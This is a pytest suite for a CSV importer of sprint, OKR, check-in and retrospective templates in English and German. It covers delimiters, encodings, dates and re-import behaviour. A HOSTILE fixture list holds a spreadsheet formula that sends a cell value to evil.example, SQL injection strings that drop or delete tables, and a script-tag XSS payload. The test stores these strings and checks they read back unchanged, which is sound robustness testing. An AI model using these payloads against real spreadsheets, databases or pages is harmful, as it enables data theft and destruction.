"""Our six templates import as people write them: English or German headers, comma or semicolon
or tab, decimal comma, German dates, ja/nein and x/empty, BOM and CRLF, cp1252, any column order.
Stored values are read back with ``store.current`` and compared with values written by hand."""
from __future__ import annotations

import csv
import io
import math
from datetime import date

import pandas as pd
import pytest

from data.importer import import_uploads
from tests.support import snapshot, upload


# Columns later migrations added; each has tests of its own (test_sprint_calendar.py, …), so the
# rows below stay the rows every version of the store had.
LATER_COLUMNS = ["region", "days_off", "file_order", "first_import", "lessons"]


def stored(store, table: str) -> list[tuple]:
    """The current rows of a table as plain Python values (dates, floats, bools, None)."""
    frame = store.current(table).drop(columns=LATER_COLUMNS, errors="ignore")
    return [tuple(_plain(value) for value in row) for row in frame.itertuples(index=False, name=None)]


def _plain(value):
    if isinstance(value, pd.Timestamp):
        assert value == value.normalize(), f"a date column holds a time: {value}"
        return value.date()
    if hasattr(value, "item"):  # numpy scalars
        value = value.item()
    if value is None or value is pd.NA or value is pd.NaT or (isinstance(value, float) and math.isnan(value)):
        return None
    return value


def d(text: str) -> date:
    return date.fromisoformat(text)


# --- the six templates, each in English and in German ------------------------------------------
SPRINTS_EN = (
    "team,sprint,start_date,end_date,goal,sprint_type,committed,completed,added,removed,key_results,unit\n"
    "Nord,Sprint 1,2026-03-02,2026-03-13,20 first calls,acquisition,20,17.5,3,1,KR-1.1,activities\n"
    'Nord,Sprint 2,2026-03-16,2026-03-27,Pipeline review,pipeline,,,,,"KR-1.1, KR-1.2",activities\n'
)
SPRINTS_DE = (
    "Team;Sprint;Startdatum;Enddatum;Sprintziel;Sprinttyp;Zugesagt;Erledigt;Hinzugefügt;Entfernt;Key Results;Einheit\n"
    "Nord;Sprint 1;02.03.2026;13.03.2026;20 first calls;acquisition;20;17,5;3;1;KR-1.1;activities\n"
    "Nord;Sprint 2;16.03.2026;27.03.2026;Pipeline review;pipeline;;;;;KR-1.1, KR-1.2;activities\n"
)
SPRINTS_ROWS = {
    "sprints": [
        ("Nord", "Sprint 1", d("2026-03-02"), d("2026-03-13"), "20 first calls", "acquisition", 20.0, 17.5, 3.0, 1.0, "KR-1.1", "recorded"),
        ("Nord", "Sprint 2", d("2026-03-16"), d("2026-03-27"), "Pipeline review", "pipeline", None, None, None, None, "KR-1.1, KR-1.2", "recorded"),
    ],
    "teams": [("Nord", "activities")],
}

ITEMS_EN = (
    "team,sprint,item_key,title,item_type,estimate,committed_at_start,added_on,removed,done,done_on,key_result\n"
    "Nord,Sprint 1,NN-101,Call Müller GmbH,activity,3,yes,,no,yes,2026-03-05,KR-1.1\n"
    "Nord,Sprint 1,NN-102,Visit trade fair,activity,2.5,no,2026-03-04,no,no,,\n"
    "Nord,Sprint 1,NN-103,Offer Schmidt AG,deal,5,yes,,yes,no,,\n"
)
ITEMS_DE = (
    "Team;Sprint;Schlüssel;Titel;Typ;Schätzung;Zugesagt bei Start;Hinzugefügt am;Entfernt;Erledigt;Erledigt am;Key Result\n"
    "Nord;Sprint 1;NN-101;Call Müller GmbH;activity;3;x;;;ja;05.03.2026;KR-1.1\n"
    "Nord;Sprint 1;NN-102;Visit trade fair;activity;2,5;;04.03.2026;nein;nein;;\n"
    "Nord;Sprint 1;NN-103;Offer Schmidt AG;deal;5;ja;;x;;;\n"
)
ITEMS_ROWS = {
    "sprint_items": [
        ("Nord", "Sprint 1", "NN-101", "Call Müller GmbH", "activity", 3.0, True, None, False, True, d("2026-03-05"), "KR-1.1", "recorded"),
        ("Nord", "Sprint 1", "NN-102", "Visit trade fair", "activity", 2.5, False, d("2026-03-04"), False, False, None, None, "recorded"),
        ("Nord", "Sprint 1", "NN-103", "Offer Schmidt AG", "deal", 5.0, True, None, True, False, None, None, "recorded"),
    ],
    "teams": [("Nord", None)],
}

OKRS_EN = (
    "team,cycle,cycle_start,cycle_end,objective_id,objective,okr_type,kr_id,key_result,kr_type,unit,start_value,target_value,weight,parent\n"
    "Nord,Q2 2026,2026-04-01,2026-06-30,O-1,Win machine builders,committed,KR-1.1,40 discovery meetings,increase,meetings,0,40,2,Market share DACH\n"
    "Nord,Q2 2026,2026-04-01,2026-06-30,O-1,Win machine builders,committed,KR-1.2,Offer time down to 2 days,decrease,days,5,2,1,Market share DACH\n"
    "Nord,Q2 2026,2026-04-01,2026-06-30,O-2,Be the partner of choice,aspirational,KR-2.1,NPS stays above 40,stay_above,points,45,40,0.5,\n"
    "Nord,Q2 2026,2026-04-01,2026-06-30,O-2,Be the partner of choice,aspirational,KR-2.2,Launch partner portal,milestone,,0,1,,\n"
)
OKRS_DE = (
    "Team;Zyklus;Zyklusbeginn;Zyklusende;Objective-ID;Objective;OKR-Typ;KR-ID;Key Result;KR-Typ;Einheit;Startwert;Zielwert;Gewicht;Übergeordnetes Ziel\n"
    "Nord;Q2 2026;01.04.2026;30.06.2026;O-1;Win machine builders;verbindlich;KR-1.1;40 discovery meetings;steigern;meetings;0;40;2;Market share DACH\n"
    "Nord;Q2 2026;01.04.2026;30.06.2026;O-1;Win machine builders;verbindlich;KR-1.2;Offer time down to 2 days;senken;days;5;2;1;Market share DACH\n"
    "Nord;Q2 2026;01.04.2026;30.06.2026;O-2;Be the partner of choice;ambitioniert;KR-2.1;NPS stays above 40;mindestens;points;45;40;0,5;\n"
    "Nord;Q2 2026;01.04.2026;30.06.2026;O-2;Be the partner of choice;ambitioniert;KR-2.2;Launch partner portal;meilenstein;;0;1;;\n"
)
OKRS_ROWS = {
    "cycles": [("Nord", "Q2 2026", d("2026-04-01"), d("2026-06-30"))],
    "objectives": [
        ("Nord", "Q2 2026", "O-1", "Win machine builders", "committed", "Market share DACH"),
        ("Nord", "Q2 2026", "O-2", "Be the partner of choice", "aspirational", None),
    ],
    "key_results": [
        ("KR-1.1", "Nord", "Q2 2026", "O-1", "40 discovery meetings", "increase", "meetings", 0.0, 40.0, 2.0),
        ("KR-1.2", "Nord", "Q2 2026", "O-1", "Offer time down to 2 days", "decrease", "days", 5.0, 2.0, 1.0),
        ("KR-2.1", "Nord", "Q2 2026", "O-2", "NPS stays above 40", "stay_above", "points", 45.0, 40.0, 0.5),
        ("KR-2.2", "Nord", "Q2 2026", "O-2", "Launch partner portal", "milestone", None, 0.0, 1.0, 1.0),
    ],
    "teams": [("Nord", None)],
}

CHECKINS_EN = (
    "kr_id,date,value,confidence,comment\n"
    "KR-1.1,2026-04-13,6,7,Trade fair leads followed up\n"
    "KR-1.1,2026-04-27,11.5,6,\n"
    'KR-1.2,2026-04-13,4,8,"Offer template, finally"\n'
)
CHECKINS_DE = (
    "KR-ID;Datum;Wert;Zuversicht;Kommentar\n"
    "KR-1.1;13.04.2026;6;7;Trade fair leads followed up\n"
    "KR-1.1;27.04.2026;11,5;6;\n"
    "KR-1.2;13.04.2026;4;8;Offer template, finally\n"
)
CHECKINS_ROWS = {
    "checkins": [
        ("KR-1.1", d("2026-04-13"), 6.0, 7.0, "Trade fair leads followed up"),
        ("KR-1.1", d("2026-04-27"), 11.5, 6.0, None),
        ("KR-1.2", d("2026-04-13"), 4.0, 8.0, "Offer template, finally"),
    ],
}

RETRO_EN = (
    "team,sprint,action,owner,status,done_sprint\n"
    "Nord,Sprint 1,Send offers the same day,Anna,done,Sprint 2\n"
    "Nord,Sprint 1,Prepare calls in pairs,,open,\n"
    "Nord,Sprint 2,Weekly pipeline review,Team,dropped,\n"
    "Nord,Sprint 2,Shorter stand-up,Ben,,\n"
)
RETRO_DE = (
    "Team;Sprint;Maßnahme;Verantwortlich;Status;Erledigt in Sprint\n"
    "Nord;Sprint 1;Send offers the same day;Anna;erledigt;Sprint 2\n"
    "Nord;Sprint 1;Prepare calls in pairs;;offen;\n"
    "Nord;Sprint 2;Weekly pipeline review;Team;verworfen;\n"
    "Nord;Sprint 2;Shorter stand-up;Ben;;\n"
)
RETRO_ROWS = {
    "retro_actions": [
        ("Nord", "Sprint 1", "Prepare calls in pairs", None, "open", None),
        ("Nord", "Sprint 1", "Send offers the same day", "Anna", "done", "Sprint 2"),
        ("Nord", "Sprint 2", "Shorter stand-up", "Ben", "open", None),
        ("Nord", "Sprint 2", "Weekly pipeline review", "Team", "dropped", None),
    ],
    "teams": [("Nord", None)],
}

PLANS_EN = "kr_id,date,planned_value\nKR-1.1,2026-05-15,20\nKR-1.1,2026-06-30,40\nKR-2.1,2026-05-15,42.5\n"
PLANS_DE = "KR-ID;Datum;Planwert\nKR-1.1;15.05.2026;20\nKR-1.1;30.06.2026;40\nKR-2.1;15.05.2026;42,5\n"
PLANS_ROWS = {
    "kr_plans": [
        ("KR-1.1", d("2026-05-15"), 20.0),
        ("KR-1.1", d("2026-06-30"), 40.0),
        ("KR-2.1", d("2026-05-15"), 42.5),
    ],
}

# kind, English file, German file, expected rows per table, needs the okrs imported first
TEMPLATE_CASES = [
    ("sprints", SPRINTS_EN, SPRINTS_DE, SPRINTS_ROWS, False),
    ("sprint_items", ITEMS_EN, ITEMS_DE, ITEMS_ROWS, False),
    ("okrs", OKRS_EN, OKRS_DE, OKRS_ROWS, False),
    ("checkins", CHECKINS_EN, CHECKINS_DE, CHECKINS_ROWS, True),
    ("retro_actions", RETRO_EN, RETRO_DE, RETRO_ROWS, False),
    ("kr_plans", PLANS_EN, PLANS_DE, PLANS_ROWS, True),
]
LANGUAGE_CASES = [pytest.param(kind, text, rows, needs_okrs, id=f"{kind}-{language}")
                  for kind, en, de, rows, needs_okrs in TEMPLATE_CASES
                  for language, text in (("en", en), ("de", de))]


@pytest.mark.parametrize(("kind", "text", "expected", "needs_okrs"), LANGUAGE_CASES)
def test_each_template_imports_in_english_and_german(store, kind, text, expected, needs_okrs):
    if needs_okrs:
        import_uploads(store, [upload("okrs.csv", OKRS_EN)])
    result = import_uploads(store, [upload(f"{kind}.csv", text)])

    rows = text.count("\n") - 1
    assert [(f.file, f.kind, f.rows, f.inserted, f.updated, f.unchanged) for f in result.files] == [
        (f"{kind}.csv", kind, rows, rows, 0, 0)]
    assert result.import_id is not None and not result.dry_run
    for table, rows in expected.items():
        assert stored(store, table) == rows, table
    if kind == "sprint_items":  # item rows alone give their sprint no dates: the import says so, by name
        assert [w.split(".")[0] for w in result.warnings] == ["No dates for 1 sprint(s): Nord / Sprint 1"]
    else:
        assert not result.warnings


def test_german_file_is_announced_as_semicolon_separated(store):
    result = import_uploads(store, [upload("sprints.csv", SPRINTS_DE)])
    assert any("semicolon" in note for note in result.notes)


def test_bom_and_crlf(store):
    content = b"\xef\xbb\xbf" + SPRINTS_EN.replace("\n", "\r\n").encode("utf-8")
    result = import_uploads(store, [upload("sprints.csv", content)])
    assert result.files[0].kind == "sprints"
    assert stored(store, "sprints") == SPRINTS_ROWS["sprints"]
    assert stored(store, "teams") == [("Nord", "activities")]


def test_german_bom_crlf_file_as_excel_writes_it(store):
    content = b"\xef\xbb\xbf" + ITEMS_DE.replace("\n", "\r\n").encode("utf-8")
    import_uploads(store, [upload("items.csv", content)])
    assert stored(store, "sprint_items") == ITEMS_ROWS["sprint_items"]


def test_cp1252_file_with_umlauts_imports_and_says_so(store):
    text = ("Team;Sprint;Maßnahme;Verantwortlich;Status\n"
            "Süd;Sprint 1;Angebote für Größe prüfen (5 €);Jürgen Weiß;offen\n")
    result = import_uploads(store, [upload("retro.csv", text, "cp1252")])
    assert stored(store, "retro_actions") == [("Süd", "Sprint 1", "Angebote für Größe prüfen (5 €)", "Jürgen Weiß", "open", None)]
    assert any("cp1252" in note and "retro.csv" in note for note in result.notes), result.notes


def test_utf8_file_gets_no_encoding_note(store):
    result = import_uploads(store, [upload("retro.csv", RETRO_EN.replace("Anna", "Jürgen"))])
    assert not [note for note in result.notes if "cp1252" in note or "latin" in note]
    assert ("Nord", "Sprint 1", "Send offers the same day", "Jürgen", "done", "Sprint 2") in stored(store, "retro_actions")


def test_tab_separated(store):
    result = import_uploads(store, [upload("items.tsv", ITEMS_EN.replace(",", "\t"))])
    assert stored(store, "sprint_items") == ITEMS_ROWS["sprint_items"]
    assert any("tab" in note for note in result.notes)


def test_utf16_tab_separated_as_excel_unicode_text(store):
    content = ITEMS_EN.replace(",", "\t").replace("\n", "\r\n").encode("utf-16")
    import_uploads(store, [upload("items.txt", content)])
    assert stored(store, "sprint_items") == ITEMS_ROWS["sprint_items"]


def test_quoted_multiline_cell_and_quotes_inside(store):
    text = ('team,sprint,start_date,end_date,goal\n'
            'Nord,Sprint 1,2026-03-02,2026-03-13,"Line one\nLine two, with a comma and ""quotes"""\n'
            'Nord,Sprint 2,2026-03-16,2026-03-27,Plain\n')
    result = import_uploads(store, [upload("sprints.csv", text)])
    assert result.files[0].rows == 2
    goals = [row[4] for row in stored(store, "sprints")]
    assert goals == ['Line one\nLine two, with a comma and "quotes"', "Plain"]


def test_columns_in_any_order(store):
    text = ("done,estimate,item_key,key_result,sprint,title,team,committed_at_start,done_on,item_type,removed,added_on\n"
            "yes,3,NN-101,KR-1.1,Sprint 1,Call Müller GmbH,Nord,yes,2026-03-05,activity,no,\n"
            "no,2.5,NN-102,,Sprint 1,Visit trade fair,Nord,no,,activity,no,2026-03-04\n"
            "no,5,NN-103,,Sprint 1,Offer Schmidt AG,Nord,yes,,deal,yes,\n")
    import_uploads(store, [upload("items.csv", text)])
    assert stored(store, "sprint_items") == ITEMS_ROWS["sprint_items"]


def test_unknown_extra_column_is_imported_with_a_warning(store):
    text = "team,sprint,colour,start_date,end_date\nNord,Sprint 1,blue,2026-03-02,2026-03-13\n"
    result = import_uploads(store, [upload("sprints.csv", text)])
    assert stored(store, "sprints") == [
        ("Nord", "Sprint 1", d("2026-03-02"), d("2026-03-13"), None, None, None, None, None, None, None, "recorded")]
    assert len(result.warnings) == 1
    assert "'colour'" in result.warnings[0] and "sprints.csv" in result.warnings[0]


def test_trailing_empty_header_cells_from_excel_are_tolerated(store):
    text = "team,sprint,action,,\r\nNord,Sprint 1,Send offers the same day,,\r\n"
    result = import_uploads(store, [upload("retro.csv", text)])
    assert stored(store, "retro_actions") == [("Nord", "Sprint 1", "Send offers the same day", None, "open", None)]
    assert not result.warnings


def test_team_given_for_a_file_without_team_column(store):
    text = "sprint,start_date,end_date,completed\nSprint 1,2026-03-02,2026-03-13,12\n"
    result = import_uploads(store, [upload("sprints.csv", text)], team="Süd")
    assert result.files[0].kind == "sprints"
    assert stored(store, "sprints") == [
        ("Süd", "Sprint 1", d("2026-03-02"), d("2026-03-13"), None, None, None, 12.0, None, None, None, "recorded")]
    assert stored(store, "teams") == [("Süd", None)]


@pytest.mark.parametrize(("dates", "expected"), [
    pytest.param(("02/03/2026", "13/03/2026"), (d("2026-03-02"), d("2026-03-13")), id="day_first_by_13"),
    pytest.param(("03/02/2026", "03/13/2026"), (d("2026-03-02"), d("2026-03-13")), id="month_first_by_13"),
    pytest.param(("02/03/26", "13/03/26"), (d("2026-03-02"), d("2026-03-13")), id="day_first_two_digit_year"),
])
def test_day_month_order_decided_by_the_file(store, dates, expected):
    text = f"team,sprint,start_date,end_date\nNord,Sprint 1,{dates[0]},{dates[1]}\n"
    import_uploads(store, [upload("sprints.csv", text)])
    assert [row[2:4] for row in stored(store, "sprints")] == [expected]


def test_day_month_order_decided_by_another_row_of_the_file(store):
    text = ("team,sprint,start_date,end_date\n"
            "Nord,Sprint 1,02/03/2026,06/03/2026\n"
            "Nord,Sprint 2,09/03/2026,20/03/2026\n")
    import_uploads(store, [upload("sprints.csv", text)])
    assert [row[2:4] for row in stored(store, "sprints")] == [
        (d("2026-03-02"), d("2026-03-06")), (d("2026-03-09"), d("2026-03-20"))]


@pytest.mark.parametrize(("day_first", "expected"), [
    pytest.param(True, (d("2026-04-03"), d("2026-05-04")), id="dmy"),
    pytest.param(False, (d("2026-03-04"), d("2026-04-05")), id="mdy"),
])
def test_day_month_order_given_by_the_user(store, day_first, expected):
    text = "team,sprint,start_date,end_date\nNord,Sprint 1,03/04/2026,04/05/2026\n"
    import_uploads(store, [upload("sprints.csv", text)], day_first=day_first)
    assert [row[2:4] for row in stored(store, "sprints")] == [expected]


@pytest.mark.parametrize(("kind", "text", "expected", "needs_okrs"), [
    pytest.param(kind, en, rows, needs_okrs, id=kind) for kind, en, _, rows, needs_okrs in TEMPLATE_CASES])
def test_reimport_of_the_identical_file_changes_nothing(store, kind, text, expected, needs_okrs):
    if needs_okrs:
        import_uploads(store, [upload("okrs.csv", OKRS_EN)])
    first = import_uploads(store, [upload(f"{kind}.csv", text)])
    table = next(iter(expected))
    versions = len(store.versions(table))

    again = import_uploads(store, [upload(f"{kind}.csv", text)])

    rows = text.count("\n") - 1
    assert [(f.inserted, f.updated, f.unchanged) for f in first.files] == [(rows, 0, 0)]
    assert [(f.inserted, f.updated, f.unchanged) for f in again.files] == [(0, 0, rows)]
    for name, rows in expected.items():
        assert stored(store, name) == rows, name
    assert len(store.versions(table)) == versions


def test_reimport_of_items_counts_each_row_once(store):
    import_uploads(store, [upload("items.csv", ITEMS_EN)])
    again = import_uploads(store, [upload("items.csv", ITEMS_DE)])  # same rows, German spelling
    assert [(f.inserted, f.updated, f.unchanged) for f in again.files] == [(0, 0, 3)]
    assert len(store.current("sprint_items")) == 3


def test_overlapping_reimport_updates_one_row_and_keeps_its_old_version(store):
    first = import_uploads(store, [upload("sprints.csv", SPRINTS_EN)])
    overlap = ("team,sprint,start_date,end_date,goal,sprint_type,committed,completed,added,removed,key_results,unit\n"
               'Nord,Sprint 2,2026-03-16,2026-03-27,Pipeline review,pipeline,15,,,,"KR-1.1, KR-1.2",activities\n'
               "Nord,Sprint 3,2026-03-30,2026-04-10,Key accounts,key account,,,,,,activities\n")
    second = import_uploads(store, [upload("sprints_2.csv", overlap)])

    assert [(f.inserted, f.updated, f.unchanged) for f in second.files] == [(1, 1, 0)]
    assert stored(store, "sprints") == [
        SPRINTS_ROWS["sprints"][0],  # not in the second file: kept, not deleted
        ("Nord", "Sprint 2", d("2026-03-16"), d("2026-03-27"), "Pipeline review", "pipeline", 15.0, None, None, None, "KR-1.1, KR-1.2", "recorded"),
        ("Nord", "Sprint 3", d("2026-03-30"), d("2026-04-10"), "Key accounts", "key account", None, None, None, None, None, "recorded"),
    ]
    versions = store.versions("sprints")
    sprint_2 = versions[versions["sprint"] == "Sprint 2"]
    assert [(_plain(c), int(i), _plain(s)) for c, i, s in zip(sprint_2["committed"], sprint_2["import_id"], sprint_2["superseded_by"])] \
        == [(None, first.import_id, second.import_id), (15.0, second.import_id, None)]
    assert len(versions) == 4


def test_reimport_without_a_column_keeps_its_stored_values(store):
    import_uploads(store, [upload("sprints.csv", SPRINTS_EN)])
    result = import_uploads(store, [upload("totals.csv", "team,sprint,completed\nNord,Sprint 1,19\n")])
    assert [(f.inserted, f.updated, f.unchanged) for f in result.files] == [(0, 1, 0)]
    assert stored(store, "sprints")[0] == (
        "Nord", "Sprint 1", d("2026-03-02"), d("2026-03-13"), "20 first calls", "acquisition", 20.0, 19.0, 3.0, 1.0, "KR-1.1", "recorded")


def test_dry_run_writes_nothing_but_reports_the_counts(store):
    import_uploads(store, [upload("sprints.csv", SPRINTS_EN)])
    before = snapshot(store)
    change = ("team,sprint,start_date,end_date,goal\n"
              "Nord,Sprint 1,2026-03-02,2026-03-13,20 first calls\n"
              "Nord,Sprint 2,2026-03-16,2026-03-27,Changed goal\n"
              "Nord,Sprint 3,2026-03-30,2026-04-10,New\n")

    result = import_uploads(store, [upload("sprints_2.csv", change)], dry_run=True)

    assert result.dry_run is True
    assert result.import_id is None
    assert [(f.file, f.kind, f.rows, f.inserted, f.updated, f.unchanged) for f in result.files] == [
        ("sprints_2.csv", "sprints", 3, 1, 1, 1)]
    assert snapshot(store) == before


def test_dry_run_on_an_empty_store_leaves_it_empty(store):
    before = snapshot(store)
    result = import_uploads(store, [upload("okrs.csv", OKRS_EN), upload("checkins.csv", CHECKINS_EN)], dry_run=True)
    assert [(f.kind, f.inserted) for f in result.files] == [("okrs", 4), ("checkins", 3)]
    assert snapshot(store) == before
    assert store.is_empty()


@pytest.mark.parametrize(("text", "expected"), [
    pytest.param("team,cycle,cycle_start,cycle_end,objective_id,objective,kr_id,key_result,start_value,target_value\n"
                 "Nord,Q2 2026,2026-04-01,2026-06-30,O-1,Grow,KR-1,Meetings up,0,40\n"
                 "Nord,Q2 2026,2026-04-01,2026-06-30,O-1,Grow,KR-2,Offer days down,5,2\n",
                 [("KR-1", "increase", 0.0, 40.0), ("KR-2", "decrease", 5.0, 2.0)], id="no_kr_type_column"),
    pytest.param("team,cycle,cycle_start,cycle_end,objective_id,objective,kr_id,key_result,kr_type,start_value,target_value\n"
                 "Nord,Q2 2026,2026-04-01,2026-06-30,O-1,Grow,KR-1,Meetings up,,0,40\n"
                 "Nord,Q2 2026,2026-04-01,2026-06-30,O-1,Grow,KR-2,Offer days down,,5,2\n"
                 "Nord,Q2 2026,2026-04-01,2026-06-30,O-1,Grow,KR-3,NPS kept,stay_above,40,40\n",
                 [("KR-1", "increase", 0.0, 40.0), ("KR-2", "decrease", 5.0, 2.0), ("KR-3", "stay_above", 40.0, 40.0)],
                 id="empty_kr_type_cells"),
])
def test_kr_type_inferred_from_start_and_target(store, text, expected):
    import_uploads(store, [upload("okrs.csv", text)])
    assert [(r[0], r[5], r[7], r[8]) for r in stored(store, "key_results")] == expected
    assert [r[4] for r in stored(store, "objectives")] == ["committed"]  # okr_type defaults to committed


def test_milestone_without_start_and_target_counts_from_0_to_1(store):
    text = ("team,cycle,cycle_start,cycle_end,objective_id,objective,kr_id,key_result,kr_type,start_value,target_value\n"
            "Nord,Q2 2026,2026-04-01,2026-06-30,O-1,Grow,KR-1,Meetings up,increase,0,40\n"
            "Nord,Q2 2026,2026-04-01,2026-06-30,O-1,Grow,KR-2,Launch partner portal,milestone,,\n")
    import_uploads(store, [upload("okrs.csv", text)])
    assert [(r[0], r[5], r[7], r[8], r[9]) for r in stored(store, "key_results")] == [
        ("KR-1", "increase", 0.0, 40.0, 1.0), ("KR-2", "milestone", 0.0, 1.0, 1.0)]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+49 170 1234567",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert('x')</script>",
    "'; DROP TABLE sprints; --",
    'Robert"); DELETE FROM teams; --',
    "🚀 Ziel erreicht ✓ — naïve café",
    "NULL",
    "nan",
    "a;b\tc|d",
    "Zeile 1\nZeile 2\r\nZeile 3",
    "Überlänge " + "ß" * 20000,
]


def test_hostile_strings_are_stored_and_read_back_exactly(store):
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["team", "sprint", "goal", "sprint_type"])
    for number, text in enumerate(HOSTILE, start=1):
        writer.writerow(["Nord <b>", f"Sprint {number}'; DROP TABLE sprints; --", text, text[:40]])
    result = import_uploads(store, [upload("sprints.csv", buffer.getvalue())])

    assert result.files[0].inserted == len(HOSTILE)
    rows = {row[1]: row for row in stored(store, "sprints")}
    for number, text in enumerate(HOSTILE, start=1):
        row = rows[f"Sprint {number}'; DROP TABLE sprints; --"]
        assert (row[0], row[4], row[5]) == ("Nord <b>", text, text[:40]), number
    assert stored(store, "teams") == [("Nord <b>", None)]


def test_item_keys_keep_leading_zeros_and_text_looking_like_numbers(store):
    text = ("team,sprint,item_key,title,estimate,done\n"
            "Nord,0012,007,1.5,1.5,yes\n"
            "Nord,0012,1e3,2026-03-01,0,no\n")
    import_uploads(store, [upload("items.csv", text)])
    assert [(r[1], r[2], r[3], r[5]) for r in stored(store, "sprint_items")] == [
        ("0012", "007", "1.5", 1.5), ("0012", "1e3", "2026-03-01", 0.0)]


def test_okrs_checkins_and_plans_together_in_one_call(store):
    result = import_uploads(store, [upload("checkins.csv", CHECKINS_EN), upload("okrs.csv", OKRS_EN),
                                    upload("plans.csv", PLANS_EN)])
    assert [f.kind for f in result.files] == ["checkins", "okrs", "kr_plans"]
    assert stored(store, "checkins") == CHECKINS_ROWS["checkins"]
    assert stored(store, "kr_plans") == PLANS_ROWS["kr_plans"]
    assert len(store.history()) == 1


def test_sprints_argument_imports_a_calendar(store):
    result = import_uploads(store, [upload("items.csv", ITEMS_EN)], sprints=[upload("calendar.csv", SPRINTS_EN)])
    assert sorted(f.kind for f in result.files) == ["sprint_items", "sprints"]
    assert stored(store, "sprints") == SPRINTS_ROWS["sprints"]
    assert stored(store, "sprint_items") == ITEMS_ROWS["sprint_items"]
